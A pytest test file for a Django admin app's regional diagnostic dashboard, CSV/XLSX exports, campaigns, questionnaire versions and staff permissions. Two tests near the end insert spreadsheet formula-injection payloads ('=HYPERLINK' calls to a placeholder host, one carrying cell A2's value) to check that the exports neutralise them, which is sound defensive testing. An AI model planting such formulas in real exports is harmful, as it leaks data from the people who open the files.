"""Regional dashboard, exports, campaigns, questionnaire versions and roles."""

import csv
import importlib
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.core.cache import cache, caches
from django.db import connection
from django.template import Context, Template
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from diagnostics import services
from diagnostics.models import (
    Audience,
    AxisScore,
    Campaign,
    Choice,
    Diagnostic,
    Export,
    Office,
    Question,
    Questionnaire,
)
from diagnostics.selectors import regional
from diagnostics.selectors.stored_figures import stored, stored_row
from tests import factories
from tests.admin.conftest import bulk_region, exported

DASHBOARD = "admin:diagnostics_office_dashboard"


def dashboard_module():
    """The dashboard's module (`regional.dashboard` is the function it defines)."""
    return importlib.import_module("diagnostics.selectors.regional.dashboard")


def export_url(kind, fmt):
    return reverse("admin:diagnostics_office_export", args=[kind, fmt])


@pytest.fixture
def campaigns(questionnaire):
    previous = factories.closed_campaign(questionnaire, name="Campagne 2025")
    current = factories.open_campaign(questionnaire, name="Campagne 2026")
    return previous, current


# --- dashboard --------------------------------------------------------------------


def test_dashboard_counts_distributions_and_evolution(
    client, network_staff, campaigns, office, director
):
    previous, current = campaigns
    bulk_region(previous, 4, score=40)
    bulk_region(current, 5, start=50)  # overall scores 0, 7, 14, 21, 28
    Diagnostic.objects.create(
        organisation=office, campaign=current, questionnaire=current.questionnaire
    )
    factories.make_office("Office sans diagnostic")
    dashboard = regional.dashboard(current)
    # the offices of the previous campaign have not started this one
    assert dashboard.counts == {"submitted": 5, "in_progress": 1, "not_started": 4 + 1}
    assert (
        dashboard.overall.median == 14
        and dashboard.overall.minimum == 0
        and dashboard.overall.maximum == 28
    )
    assert dashboard.previous == previous and dashboard.previous_overall_median == 40
    first_axis = dashboard.axes[0]
    assert first_axis.distribution.count == 5 and first_axis.previous_median == 40
    assert first_axis.median_change == pytest.approx(14 - 40)
    assert sum(count for _level, count in first_axis.levels) == 5

    client.force_login(network_staff)
    page = client.get(reverse(DASHBOARD), {"campagne": current.pk}).content.decode()
    assert "Tableau de bord régional" in page and "offices ont soumis" in page and "<svg" in page
    # « qui ? » lists the offices that have not started, as many as the card counts.
    who = f"?campagne={current.pk}&amp;statut=not_started"
    assert who in page
    listed = client.get(reverse("admin:diagnostics_office_changelist") + who.replace("&amp;", "&"))
    assert listed.context["cl"].result_count == dashboard.counts["not_started"]
    # The overall median's change beside the axes' (14 against 40).
    assert dashboard.overall_median_change == -26
    overall = re.search(r"Score global</th>(.*?)</tr>", page, re.S).group(1)
    assert "\u221226" in overall


# What the regional dashboard wrote for each axis's levels before `levels_bar` wrote it in
# Python: the tag must write the same, byte for byte.
LEVELS_BAR_TEMPLATE = (
    '{% load snut %}<div class="snut-bar" role="img" aria-label="{% for level, count in levels %}'
    '{{ level.name }}\u00a0: {{ count }}{% if not forloop.last %}, {% endif %}{% endfor %}">'
    '{% for level, count in levels %}{% if count %}<span class="tone-{{ level.lower_bound|tone:scale }}" '
    'style="width: {% widthratio count total 100 %}%; background: var(--tone)" '
    'title="{{ level.name }}\u00a0: {{ count }}"></span>{% endif %}{% endfor %}</div>\n'
    "<small>{% for level, count in levels %}{{ level.name }} {{ count }}"
    "{% if not forloop.last %} · {% endif %}{% endfor %}</small>\n"
)


@pytest.mark.parametrize("counts", [(3, 0, 1, 2), (0, 0, 0, 7), (1, 1, 1, 997)])
def test_the_levels_bar_is_written_as_the_template_wrote_it(campaigns, counts):
    levels = list(campaigns[1].questionnaire.levels.order_by("lower_bound"))
    levels[1].name = "Débutant <b> & « curieux »"  # escaped once, as the template did
    pairs = list(zip(levels, counts, strict=True))
    context = Context({"levels": pairs, "total": sum(counts), "scale": levels})
    expected = Template(LEVELS_BAR_TEMPLATE).render(context)
    tag = Template("{% load snut %}{% levels_bar levels total scale %}").render(context)
    assert tag == expected and "&lt;b&gt; &amp; « curieux »" in tag


def test_status_counts_are_the_statuses_the_office_list_gives(campaigns, office):
    """Counted from the campaign's diagnostics, they agree with each office's status on the
    list (offices_with_scores): a replaced diagnostic is no start, a business's diagnostic
    in the campaign no office's, an office with a replaced one and a draft in progress."""
    previous, current = campaigns
    bulk_region(previous, 2, score=40)
    bulk_region(current, 3, start=50)
    questionnaire = current.questionnaire
    Diagnostic.objects.create(organisation=office, campaign=current, questionnaire=questionnaire)
    replaced = factories.make_office("Office au diagnostic remplacé")
    restarted = factories.make_office("Office reparti")
    for organisation in (replaced, restarted):
        Diagnostic.objects.create(
            organisation=organisation,
            campaign=current,
            questionnaire=questionnaire,
            status=Diagnostic.Status.REPLACED,
        )
    Diagnostic.objects.create(organisation=restarted, campaign=current, questionnaire=questionnaire)
    Diagnostic.objects.create(
        organisation=factories.make_business(office, "Gîte des Combes"),
        campaign=current,
        questionnaire=questionnaire,
    )
    factories.make_office("Office sans diagnostic")
    statuses = [
        o.campaign_status for o in regional.offices_with_scores(Office.objects.all(), current, [])
    ]
    expected = {
        status: statuses.count(status) for status in ("submitted", "in_progress", "not_started")
    }
    assert expected == {"submitted": 3, "in_progress": 2, "not_started": 2 + 2}
    assert regional.status_counts(current) == expected


def test_weakest_questions_rank_by_mean_share_of_points(campaigns, office, other_office, director):
    _previous, current = campaigns
    questions = list(
        Question.objects.filter(questionnaire=current.questionnaire).order_by(
            "axis__order", "order"
        )
    )
    for each in (office, other_office):
        diagnostic = Diagnostic.objects.create(
            organisation=each, campaign=current, questionnaire=current.questionnaire
        )
        # everything at the top but the fourth question, at the bottom
        factories.answer_all(diagnostic, pick=lambda choices: choices[-1])
        weak = questions[3]
        diagnostic.answers.filter(question=weak).update(
            choice=weak.choices.order_by("points").first()
        )
        services.diagnostic_submit(diagnostic=diagnostic, user=factories.director_of(each))
    weakest = regional.weakest_questions(current, regional.campaign_axes(current))
    assert weakest[0].question == questions[3] and weakest[0].share == 0 and weakest[0].answers == 2
    assert weakest[1].share == 100


def test_dashboard_without_submissions_says_so(client, network_staff, campaigns):
    client.force_login(network_staff)
    page = client.get(reverse(DASHBOARD)).content.decode()
    assert "Aucun diagnostic soumis dans cette campagne" in page
    assert "statut=not_started" not in page  # no « qui ? » when no office is left to start


@pytest.mark.parametrize("size", [10, 300])
def test_dashboard_runs_a_constant_number_of_queries(
    client, network_staff, campaigns, size, django_assert_num_queries
):
    previous, current = campaigns
    bulk_region(previous, size)
    bulk_region(current, size, start=size)
    client.force_login(network_staff)
    # First view: the figures are looked for in the database (stored by a submission's
    # task, none here), then their tally (none either), then they are computed whole.
    with django_assert_num_queries(21):
        assert client.get(reverse(DASHBOARD)).status_code == 200
    # Then read from the cache, and the campaign too (office_analytics.campaign_for).
    with django_assert_num_queries(8):
        assert client.get(reverse(DASHBOARD)).status_code == 200


def test_dashboard_figures_follow_every_submission(campaigns, office, director):
    _previous, current = campaigns
    bulk_region(current, 5, start=50)  # overall scores 0, 7, 14, 21, 28
    assert regional.dashboard(current).overall.count == 5
    assert regional.dashboard(current).overall.count == 5  # from the cache
    diagnostic = Diagnostic.objects.create(
        organisation=office, campaign=current, questionnaire=current.questionnaire
    )
    factories.answer_all(diagnostic, pick=lambda choices: choices[-1])
    assert regional.dashboard(current).counts["in_progress"] == 1  # read live
    services.diagnostic_submit(diagnostic=diagnostic, user=director)
    dashboard = regional.dashboard(current)
    assert dashboard.overall.count == 6 and dashboard.overall.maximum == 100
    Diagnostic.objects.filter(pk=diagnostic.pk).delete()
    assert regional.dashboard(current).overall.count == 5


@pytest.fixture
def submitted(campaigns, office, director, django_capture_on_commit_callbacks):
    """4 offices in the previous campaign, 5 in the current one, then the office's own
    submission, its tasks run (the immediate backend): the two campaigns."""
    previous, current = campaigns
    bulk_region(previous, 4)
    bulk_region(current, 5, start=50)
    diagnostic = Diagnostic.objects.create(
        organisation=office, campaign=current, questionnaire=current.questionnaire
    )
    factories.answer_all(diagnostic, pick=lambda choices: choices[-1])
    with django_capture_on_commit_callbacks(execute=True):
        services.diagnostic_submit(diagnostic=diagnostic, user=director)
    return previous, current


def test_a_submission_has_the_dashboard_figures_computed_on_the_task_queue(
    client, network_staff, submitted, django_assert_num_queries
):
    previous, current = submitted
    figures = cache.get(regional.submissions_key(current, previous))
    assert figures is not None and figures["overall"].count == 6
    # So are the weak answers the training needs and pooling read (selectors.per_submission).
    assert cache.get("snut-weak:" + regional.submissions_key(current, None)) is not None
    client.force_login(network_staff)
    with django_assert_num_queries(9):  # staff find the figures ready
        assert client.get(reverse(DASHBOARD)).status_code == 200
    # And the training needs' counts and the pooling groups, drawn from the weak answers.
    for page in ("admin:diagnostics_training_needs", "admin:diagnostics_action_pooling"):
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse(page)).status_code == 200
        read = " ".join(query["sql"] for query in captured.captured_queries)
        assert "weak_questions" not in read and "diagnostics_training_questions" not in read


@pytest.mark.usefixtures("submitted")
def test_the_figures_a_submissions_task_stored_outlive_the_shared_cache(client, network_staff):
    """What the task drew is kept in the database too (the cache `figures`): once the shared
    cache is emptied (a restart of Redis), the dashboard, the training needs and pooling
    read it back rather than draw it again from every score and weak answer."""
    client.force_login(network_staff)
    shown = client.get(reverse(DASHBOARD)).content.decode()
    cache.clear()
    with CaptureQueriesContext(connection) as captured:
        page = client.get(reverse(DASHBOARD))
    read = " ".join(query["sql"] for query in captured.captured_queries)
    assert "diagnostics_axisscore" not in read and "diagnostics_answer" not in read
    assert page.context["dashboard"].overall.count == 6
    masked = re.compile(r'name="csrfmiddlewaretoken" value="[^"]+"')  # masked anew each time
    assert masked.sub("", page.content.decode()) == masked.sub("", shown)
    for name in ("admin:diagnostics_training_needs", "admin:diagnostics_action_pooling"):
        cache.clear()
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse(name)).status_code == 200
        assert "weak_questions" not in " ".join(q["sql"] for q in captured.captured_queries)


def test_right_after_a_submission_the_dashboard_shows_the_last_figures_and_says_so(
    client, network_staff, submitted, django_capture_on_commit_callbacks, monkeypatch
):
    """A submission whose figures task has not run yet (it runs within seconds): for
    TASK_AWAITED, the dashboard shows the figures the task last stored, says when they
    were drawn and that the submissions since are not counted yet, and is not kept by the
    memo; then the page draws them itself, or finds the task's."""
    dashboard = dashboard_module()
    _previous, current = submitted
    late = factories.make_office(name="Office de tourisme de Nérac")
    diagnostic = Diagnostic.objects.create(
        organisation=late, campaign=current, questionnaire=current.questionnaire
    )
    factories.answer_all(diagnostic, pick=lambda choices: choices[0])
    with django_capture_on_commit_callbacks(execute=False):  # its task not run
        services.diagnostic_submit(diagnostic=diagnostic, user=factories.make_user(office=late))
    client.force_login(network_staff)
    for _ in range(2):  # never kept by the memo: the task's figures come without a write
        with CaptureQueriesContext(connection) as captured:
            page = client.get(reverse(DASHBOARD))
        read = " ".join(query["sql"] for query in captured.captured_queries)
        assert "diagnostics_axisscore" not in read and "diagnostics_answer" not in read
        shown = page.context["dashboard"]
        assert shown.awaited and (shown.overall.count, shown.counts["submitted"]) == (6, 7)
        assert "y seront comptés dans un instant" in page.content.decode()
    monkeypatch.setattr(dashboard, "TASK_AWAITED", timedelta(0))
    shown = client.get(reverse(DASHBOARD)).context["dashboard"]
    assert not shown.awaited and shown.overall.count == 7
    monkeypatch.undo()
    cache.clear()
    services.dashboard_figures_task.call(campaign_id=current.pk)
    page = client.get(reverse(DASHBOARD))
    assert not page.context["dashboard"].awaited and page.context["dashboard"].overall.count == 7
    assert "y seront comptés" not in page.content.decode()


def test_a_page_that_draws_the_figures_itself_writes_nothing_to_the_database(
    client, network_staff, campaigns
):
    """Without the task (not run yet), the dashboard draws its figures and keeps them in the
    shared cache only: a page read writes no row, the task keeps them in the database."""
    previous, current = campaigns
    bulk_region(current, 5)
    client.force_login(network_staff)
    with CaptureQueriesContext(connection) as captured:
        assert client.get(reverse(DASHBOARD)).status_code == 200
    assert not [q for q in captured.captured_queries if "snut_figures" in q["sql"].split("WHERE")[0]
                and not q["sql"].lstrip().upper().startswith("SELECT")]  # fmt: skip
    key = regional.submissions_key(current, previous)
    place = dashboard_module().figures_place(current, previous)
    assert cache.get(key) is not None and stored_row(place) is None
    services.dashboard_figures_task.call(campaign_id=current.pk)
    row_key, figures, _counted = stored_row(place)
    assert row_key == key and figures["overall"].count == 5


def test_stored_figures_a_former_version_cannot_read_back_are_drawn_again(
    campaigns, monkeypatch, caplog
):
    """A row kept by a version of SNUT whose classes changed since (unpickling fails): the
    figures are drawn again, not a 500."""
    previous, current = campaigns
    bulk_region(current, 3)
    services.dashboard_figures_task.call(campaign_id=current.pk)
    cache.clear()

    def unreadable(key, default=None, version=None):
        raise AttributeError("Can't get attribute 'AxisSummary' on <module>")

    monkeypatch.setattr(caches["figures"], "get", unreadable)
    assert regional.dashboard(current).overall.count == 3
    assert "not read back" in caplog.text
    assert stored("k", lambda: 7, place="somewhere") == 7


def test_the_dashboard_task_skips_business_campaigns_and_computes_the_next_campaign(
    campaigns, office
):
    previous, current = campaigns
    bulk_region(previous, 3)
    assert services.dashboard_figures_task.call(campaign_id=previous.pk) == 2
    # The current campaign compares itself with the previous one: ready too.
    assert cache.get(regional.submissions_key(current, previous)) is not None
    businesses = factories.build_questionnaire(audience=Audience.BUSINESSES)
    theirs = factories.open_campaign(businesses, organiser=office)
    assert services.dashboard_figures_task.call(campaign_id=theirs.pk) == 0


# --- exports ----------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def test_scores_csv_follows_the_filters(client, network_staff, campaigns):
    _previous, current = campaigns
    bulk_region(current, 3, department="33")
    bulk_region(current, 2, start=10, department="64")
    client.force_login(network_staff)
    response = exported(client, "scores", "csv", {"department__exact": "64"})
    assert response["Content-Type"].startswith("text/csv")
    day = timezone.localdate().isoformat()
    assert f'filename="snut-scores-campagne-2026-{day}.csv"' in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0][:7] == [
        "Office",
        "Commune",
        "Département",
        "Classement",
        "Statut",
        "Score global",
        "Niveau global",
    ]
    assert "Axe 1 — score" in rows[0]
    assert [r[0] for r in rows[1:]] == ["Office 0010", "Office 0011"]
    assert rows[2][5] == "7" and rows[2][4] == "Soumis"  # as shown on the pages
    exact = rows[0].index("Score global — score exact")
    assert rows[2][exact] == "7,00"


def test_answers_csv_has_one_row_per_office_and_question(
    client, network_staff, campaigns, office, director
):
    _previous, current = campaigns
    diagnostic = Diagnostic.objects.create(
        organisation=office, campaign=current, questionnaire=current.questionnaire
    )
    factories.answer_all(diagnostic, pick=lambda choices: choices[1])
    services.diagnostic_submit(diagnostic=diagnostic, user=director)
    client.force_login(network_staff)
    rows = read_csv(exported(client, "reponses", "csv"))
    assert rows[0] == [
        "Office",
        "Département",
        "Classement",
        "Axe",
        "Code",
        "Question",
        "Réponse",
        "Points",
        "Points max",
        "Commentaire",
    ]
    assert len(rows) == 1 + 6
    assert rows[1][0] == office.name and rows[1][6] == "Réponse 2" and rows[1][7:9] == ["1", "3"]


def test_xlsx_exports_open_in_a_spreadsheet(client, network_staff, campaigns):
    _previous, current = campaigns
    bulk_region(current, 4)
    client.force_login(network_staff)
    response = exported(client, "scores", "xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    rows = list(workbook.active.iter_rows(values_only=True))
    assert rows[0][0] == "Office" and len(rows) == 5
    assert rows[2][5] == 7  # numbers stay numbers
    response = exported(client, "reponses", "xlsx")
    assert load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.max_row == 1


@pytest.mark.parametrize(("kind", "fmt"), [("scores", "pdf"), ("tout", "csv")])
def test_unknown_exports_are_refused(client, network_staff, campaigns, kind, fmt):
    client.force_login(network_staff)
    response = client.post(export_url(kind, fmt), follow=True)
    assert "Cet export n’existe pas" in response.content.decode()
    assert not Export.objects.exists()


def test_exports_are_for_staff_only(client, director, campaigns):
    client.force_login(director)
    response = client.post(export_url("scores", "csv"))
    assert response.status_code == 302 and "/admin/login/" in response.url
    assert not Export.objects.exists()


# --- campaigns --------------------------------------------------------------------


def test_staff_create_a_campaign_and_see_who_has_not_submitted(
    client, network_staff, questionnaire
):
    client.force_login(network_staff)
    response = client.post(
        reverse("admin:diagnostics_campaign_add"),
        {
            "questionnaire": questionnaire.pk,
            "name": "Campagne 2027",
            "opens": "2027-01-10",
            "closes": "2027-06-30",
        },
    )
    assert response.status_code == 302
    campaign = Campaign.objects.get(name="Campagne 2027")
    page = client.get(reverse("admin:diagnostics_campaign_changelist")).content.decode()
    assert f"?campagne={campaign.pk}&amp;statut=pending" in page


def test_a_campaign_closing_before_it_opens_is_refused(client, network_staff, questionnaire):
    client.force_login(network_staff)
    response = client.post(
        reverse("admin:diagnostics_campaign_add"),
        {
            "questionnaire": questionnaire.pk,
            "name": "À l’envers",
            "opens": "2027-06-30",
            "closes": "2027-01-10",
        },
    )
    assert response.status_code == 200
    assert not Campaign.objects.filter(name="À l’envers").exists()


# --- questionnaire versions -------------------------------------------------------


def test_duplicate_makes_an_editable_draft_and_past_scores_stay(
    client, network_staff, questionnaire, diagnostic, director
):
    factories.answer_all(diagnostic, pick=lambda choices: choices[1])
    services.diagnostic_submit(diagnostic=diagnostic, user=director)
    client.force_login(network_staff)
    response = client.post(
        reverse("admin:diagnostics_questionnaire_changelist"),
        {"action": "duplicate", "_selected_action": [questionnaire.pk]},
        follow=True,
    )
    assert "Version 2 créée en brouillon" in response.content.decode()
    copy = Questionnaire.objects.get(code=questionnaire.code, version=2)
    assert copy.status == Questionnaire.Status.DRAFT
    assert (
        Question.objects.filter(questionnaire=copy).count()
        == Question.objects.filter(questionnaire=questionnaire).count()
    )
    assert Choice.objects.filter(question__questionnaire=copy).count() == 24
    assert copy.levels.count() == 4

    # The draft is editable; editing it never touches the answered version.
    choice = Choice.objects.filter(question__questionnaire=copy).order_by("pk").first()
    url = reverse("admin:diagnostics_choice_change", args=[choice.pk])
    assert client.get(url).status_code == 200
    Choice.objects.filter(question__questionnaire=copy).update(points=3)
    diagnostic.refresh_from_db()
    assert diagnostic.questionnaire == questionnaire and diagnostic.overall_score == Decimal(
        "33.33"
    )
    assert set(AxisScore.objects.filter(diagnostic=diagnostic).values_list("score", flat=True)) == {
        Decimal("33.33")
    }


# --- roles --------------------------------------------------------------------------


def test_the_network_group_exists_after_migrate(db):
    group = Group.objects.get(name="Réseau")
    codenames = set(group.permissions.values_list("codename", flat=True))
    assert {"add_campaign", "change_questionnaire", "view_diagnostic", "view_user"} <= codenames
    assert (
        not {"add_user", "change_user", "delete_user", "change_group", "change_answer"} & codenames
    )
    assert {
        "add_invitation",
        "change_invitation",
    } <= codenames and "delete_invitation" not in codenames


def test_network_staff_manage_campaigns_but_not_diagnostics(client, network_staff, diagnostic):
    client.force_login(network_staff)
    assert client.get(reverse("admin:diagnostics_campaign_add")).status_code == 200
    url = reverse("admin:diagnostics_diagnostic_delete", args=[diagnostic.pk])
    assert client.post(url, {"post": "yes"}).status_code == 403
    assert Diagnostic.objects.filter(pk=diagnostic.pk).exists()
    assert client.get(reverse("admin:auth_group_changelist")).status_code == 403


def test_network_staff_cannot_become_members_of_an_office(client, network_staff, office):
    client.force_login(network_staff)
    response = client.post(
        reverse("admin:diagnostics_membership_add"),
        {"user": network_staff.pk, "office": office.pk, "role": "director"},
    )
    assert response.status_code == 200  # the form comes back with an error
    assert not office.memberships.filter(user=network_staff).exists()


def test_exported_comments_never_become_formulas(
    client, network_staff, campaigns, office, director
):
    _previous, current = campaigns
    diagnostic = Diagnostic.objects.create(
        organisation=office, campaign=current, questionnaire=current.questionnaire
    )
    factories.answer_all(diagnostic)
    diagnostic.answers.update(comment='=HYPERLINK("https://example.invalid/?"&A2,"voir")')
    services.diagnostic_submit(diagnostic=diagnostic, user=director)
    client.force_login(network_staff)
    rows = read_csv(exported(client, "reponses", "csv"))
    assert rows[1][-1].startswith("'=HYPERLINK")
    response = exported(client, "reponses", "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=10)
    assert cell.data_type == "s" and cell.value.startswith("'=")


def test_exported_and_shown_scores_agree(client, network_staff, campaigns, office, director):
    """One rule everywhere: 1 of 3 points is 33.33, shown as 33 on the page, in the PDF's
    source, the admin, CSV and XLSX; the exact value has a column of its own."""
    _previous, current = campaigns
    diagnostic = Diagnostic.objects.create(
        organisation=office, campaign=current, questionnaire=current.questionnaire
    )
    factories.answer_all(diagnostic, pick=lambda choices: choices[1])
    diagnostic = services.diagnostic_submit(diagnostic=diagnostic, user=director)
    assert diagnostic.overall_score == Decimal("33.33")

    client.force_login(director)
    page = client.get(reverse("diagnostics:results", args=[diagnostic.pk])).content.decode()
    assert "<span>33</span><small>/100</small>" in page and "33,33" not in page

    client.force_login(network_staff)
    rows = read_csv(exported(client, "scores", "csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("Score global")] == "33"
    assert row[header.index("Axe 1 — score")] == "33"
    assert row[header.index("Score global — score exact")] == "33,33"
    assert row[header.index("Axe 1 — score exact")] == "33,33"
    response = exported(client, "scores", "xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    header, row = list(workbook.active.iter_rows(values_only=True))[:2]
    assert row[header.index("Score global")] == 33
    assert row[header.index("Score global — score exact")] == 33.33

    admin_pages = [
        reverse("admin:diagnostics_diagnostic_changelist"),
        reverse("admin:diagnostics_diagnostic_change", args=[diagnostic.pk]),
        reverse("admin:diagnostics_axisscore_changelist"),
        reverse("admin:diagnostics_office_changelist") + f"?campagne={current.pk}",
    ]
    for url in admin_pages:
        content = client.get(url).content.decode()
        assert "33" in content and "33,33" not in content and "33.33" not in content, url


def test_xlsx_exports_have_widths_frozen_header_filter_and_number_formats(
    client, network_staff, campaigns
):
    _previous, current = campaigns
    bulk_region(current, 3)
    client.force_login(network_staff)
    response = exported(client, "scores", "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.freeze_panes == "A2"
    assert (
        sheet.auto_filter.ref == f"A1:{sheet.cell(row=1, column=sheet.max_column).column_letter}4"
    )
    assert sheet.column_dimensions["A"].width >= 10
    assert sheet.cell(row=2, column=6).number_format == "0"  # the shown overall score
    assert sheet.cell(row=2, column=sheet.max_column).number_format == "0.00"  # an exact one


def test_xlsx_headers_never_become_formulas(client, network_staff, campaigns):
    _previous, current = campaigns
    axis = current.questionnaire.axes.first()
    Questionnaire.objects.filter(pk=current.questionnaire_id).update(status="draft")
    axis.name = '=HYPERLINK("https://example.invalid","axe")'
    axis.save()
    client.force_login(network_staff)
    response = exported(client, "scores", "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headers = [cell.value for cell in sheet[1]]
    assert any(h.startswith("'=HYPERLINK") for h in headers)
    assert all(cell.data_type == "s" for cell in sheet[1])
